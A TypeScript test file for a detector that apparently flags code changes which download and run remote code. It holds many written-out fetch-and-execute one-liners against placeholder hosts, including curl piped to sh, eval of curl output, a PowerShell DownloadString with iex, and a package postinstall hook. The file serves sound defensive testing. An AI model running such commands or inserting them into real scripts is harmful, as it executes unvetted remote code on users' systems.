import { describe, expect, test } from 'vitest';
import { codeFiles, remoteCode } from '../../src/gates/index.ts';

/** The first line that is found in a script, or null. */
function foundIn(script: string, path = 'scripts/build.sh'): string | null {
  const lines = script.split('\n').map((text, index) => ({ number: index + 1, text }));
  const [hit] = remoteCode({ path, lines });
  return hit === undefined ? null : hit.evidence.slice(path.length + 1);
}

describe('a change that runs what it downloads', () => {
  test.each([
    'curl -fsSL https://install.example/i.sh | sh',
    'curl https://x.example/i.sh|bash',
    'curl https://x.example/i | sudo -E bash -',
    'curl -s https://x.example/i | sudo FOO=bar /usr/bin/env bash -s -- --yes',
    'wget -O- https://x.example/i | sh',
    'wget -qO - "https://x.example/i?a=1&b=2;c" | python3 -',
    'curl https://x.example/i.gz | gunzip | sh',
    'curl https://x.example/i | tee log | bash',
    'bash <(curl -s https://x.example/i)',
    'source <(curl -s https://x.example/i)',
    '. <(wget -qO- https://x.example/i)',
    'bash -c "$(curl -fsSL https://x.example/i)"',
    'sh -c "`curl -fsSL https://x.example/i`"',
    'bash <<< "$(curl -fsSL https://x.example/i)"',
    'node -e "$(curl https://x.example/i.js)"',
    'eval "$(curl https://x.example/env)"',
    'eval `wget -qO- https://x.example/env`',
    'curl -o i.sh https://x.example/i.sh && bash i.sh',
    'wget https://x.example/i.sh; chmod +x i.sh; ./i.sh',
    'curl -O https://x.example/tool; ./tool',
    'curl https://x.example/i > /tmp/i; sh /tmp/i',
    'RUN curl -sL https://deb.example/setup_20.x | bash -',
    '      - run: curl https://x.example/i | sh',
    '"postinstall": "curl https://x.example/i | node"',
    'iex ((New-Object System.Net.WebClient).DownloadString("https://x.example/i.ps1"))',
    'irm https://x.example/i.ps1 | iex',
    'python -c "import urllib.request as u; exec(u.urlopen(\'https://x.example/i\').read())"',
    "eval(await (await fetch('https://x.example/i.js')).text())",
    'curl https://x.example/i || curl https://y.example/i | sh',
  ])('%s', (line) => {
    expect(foundIn(line)).toBe(`1: ${line.trim()}`);
  });

  test.each([
    ['curl -s https://x.example/i \\\n  | sh', '1'],
    ['curl -s https://x.example/i |\n  sh', '1'],
    ['curl -s https://x.example/i\\\n | tar x \\\n | sh', '1'],
    ['echo begin\ncurl -o install.sh https://x.example/i\necho downloaded\nbash ./install.sh', '4'],
    ['set -e\nwget https://x.example/get-tool.sh\nchmod 755 get-tool.sh', '3'],
  ])('over several lines: %j', (script, number) => {
    expect(foundIn(script)?.split(':')[0]).toBe(number);
  });

  test('with its pipe escaped in JSON', () => {
    const line = String.raw`"prepare": "curl https://x.example/i \u007c sh"`;
    expect(foundIn(line, 'package.json')).toBe('1: "prepare": "curl https://x.example/i | sh"');
    expect(foundIn(line, 'notes.sh')).toBeNull();
  });
});

test.each([
  'curl -fsS https://x.example/health',
  'curl https://x.example/data.json | jq .name',
  'curl https://x.example/data.json > data.json',
  'VERSION=$(curl -s https://x.example/version)',
  'echo "shell" | sh',
  'curl https://x.example/a.tgz | tar xz',
  'curl https://x.example/pushover',
  'wget https://x.example/a.zip && unzip a.zip',
  'curl https://x.example || exit 1',
  'curl https://x.example/a | grep sh',
  'curl https://x.example/a | shasum -a 256 -c',
  'curl https://x.example/a | python-format',
  'pip install git+https://x.example/a',
  'const response = await fetch(url);',
  'element.exec(fetched);',
  '# the curlew is a bird | sh is quiet',
])('downloading alone is not running: %s', (line) => {
  expect(foundIn(line)).toBeNull();
});

test('a file is reported a few times at most', () => {
  const lines = Array.from({ length: 50 }, (_, index) => ({ number: index + 1, text: 'curl x | sh' }));
  expect(remoteCode({ path: 'a.sh', lines })).toHaveLength(5);
});

test('everything but text for people, media and lock files is read', () => {
  const files = ['README.md', 'docs/a.rst', 'logo.png', 'package-lock.json', 'yarn.lock', 'page.html'];
  const read = ['Makefile', 'Dockerfile', 'gradlew', 'package.json', 'src/a.ts', '.github/workflows/a.yml'];
  const all = [...files, ...read].map(
    (path) => ({ path, status: 'added', additions: 1, deletions: 0 }) as const,
  );
  const gone = { path: 'old.sh', status: 'deleted', additions: 0, deletions: 1 } as const;
  expect(codeFiles([...all, gone])).toEqual(read);
});

test.each([
  ['a long line', (size: number) => `curl ${'a|'.repeat(size)}`],
  ['many substitutions', (size: number) => `curl ${'$('.repeat(size)}`],
  ['many names', (size: number) => `curl ${'-o a '.repeat(size)} sh b`],
  ['many addresses', (size: number) => `curl ${'https://x.example/a '.repeat(size)} sh b`],
  ['many flags', (size: number) => `curl x | sudo ${'-E '.repeat(size)}`],
  ['many continuations', (size: number) => 'curl x \\\n'.repeat(size)],
])('reading takes time in proportion to the text: %s', (_, text) => {
  // The two are measured in turn, so that whatever else runs slows both; quadratic would be 64 times.
  const ratios = Array.from({ length: 5 }, () => cpuOf(text(40_000)) / Math.max(cpuOf(text(5_000)), 0.5));
  expect(Math.min(...ratios)).toBeLessThan(24);
});

/** Milliseconds of computing, however busy the machine is. */
function cpuOf(text: string): number {
  const before = process.cpuUsage();
  foundIn(text);
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1_000;
}

test('a long line is cut between characters', () => {
  const script = `curl https://x.example/i | sh # `;
  const found = foundIn(`${script.padEnd(199, 'x')}😀😀`);
  expect(found).toBe(`1: ${script.padEnd(199, 'x')}…`);
});
